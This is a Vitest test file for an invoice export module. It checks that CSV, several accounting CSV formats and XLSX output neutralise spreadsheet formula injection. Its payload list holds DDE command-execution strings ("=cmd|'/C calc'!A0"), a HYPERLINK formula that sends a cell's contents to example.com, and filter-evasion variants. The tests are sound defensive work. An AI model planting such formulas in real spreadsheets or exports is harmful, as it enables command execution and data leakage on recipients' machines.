import { describe, expect, test } from "vitest";
import { enumCategories } from "#domain/names.ts";
import { headerFields, lineItemFields, type Invoice } from "#domain/invoice/invoice.ts";
import type { ExportFormat } from "#domain/exports/names.ts";
import { readWorkbook, unzip } from "#test/archives.ts";
import { buildInvoice, invoiceCases } from "#test/invoices.ts";
import { exportDocuments } from "./inMemory.ts";

const payloads = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://example.com?"&A1,"klikni")',
  "+1+cmd|x!A0",
  "-2+3+cmd|x!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  "＝1+1",
  '";=1+1',
  "a,=1+1",
  "a\n=1+1",
  "a|@SUM(1)",
  "a\t-cmd",
];

/** A document whose every text, names of own fields included, is the payload. */
function poisoned(payload: string): Invoice {
  const all = (names: readonly string[]) => Object.fromEntries(names.map((name) => [name, payload]));
  return {
    ...buildInvoice({ documentId: payload }),
    ...all(headerFields),
    externalDocumentId: payload,
    fileName: payload,
    deliveredDate: payload,
    vatBreakdown: [{ rate: payload, base: payload, vat: payload }],
    lineItems: [{ ...all(lineItemFields), coding: all(enumCategories), customFields: { [payload]: payload } }],
    coding: all(enumCategories),
    customFields: { [payload]: payload },
  };
}

async function bytesOf(format: ExportFormat, invoice: Invoice): Promise<Buffer> {
  const result = await exportDocuments(format, [{ invoice }], { tenantId: "tenant-1", now: new Date("2026-03-05T10:00:00Z") });
  if ("problems" in result) throw new Error(JSON.stringify(result.problems));
  return result.bytes;
}

describe.each(payloads)("a document that says %j everywhere", (payload) => {
  test("has no formula in Csv, wherever a program may cut the row", async () => {
    const text = (await bytesOf("Csv", poisoned(payload))).toString("utf8").replace("\ufeff", "");
    const cells = text.split(/[;,|\t\r\n]/).map((cell) => cell.replace(/^["\s]+/, ""));
    expect(cells.filter((cell) => /^[=+@＝＋＠]|^-(?!\d+(\.\d+)?$)/.test(cell))).toEqual([]);
  });

  test.each(["FakturoidCSV", "SignysCSV", "DuelCsv", "Stereo", "HeliosRedCSV"] as const)("has no formula in %s", async (format) => {
    const sound = Object.values(invoiceCases)[0]!;
    const texts = { supplierName: payload, supplierStreet: payload, supplierCity: payload, note: payload, invoiceNumber: payload, orderNumber: payload };
    const invoice = { ...sound, ...texts, lineItems: sound.lineItems.map((line) => ({ ...line, description: payload, unit: payload })) };
    const cells = (await bytesOf(format, invoice))
      .toString("latin1")
      .replace("\u00ef\u00bb\u00bf", "")
      .split(/[;\t\r\n]/);
    expect(cells.map((cell) => cell.replace(/^["\s]+/, "")).filter((cell) => /^[=+@]|^-(?!\d+([.,]\d+)?"?$)/.test(cell))).toEqual([]);
  });

  test("has only texts in Xlsx, and they are unchanged", async () => {
    const bytes = await bytesOf("Xlsx", poisoned(payload));
    for (const { name, bytes: xml } of await unzip(bytes)) if (name.includes("worksheets/")) expect(xml.toString("utf8")).not.toMatch(/<f[ >/]/);
    const [documents, lines] = await readWorkbook(bytes);
    const cells = [documents!.rows[0]!["Dodavatel"]!, documents!.rows[0]!["Celkem s DPH"]!, lines!.rows[0]!["Popis"]!];
    for (const { type, value } of cells) expect([type, value.trim()]).toEqual(["s", payload.trim()]);
  });
});
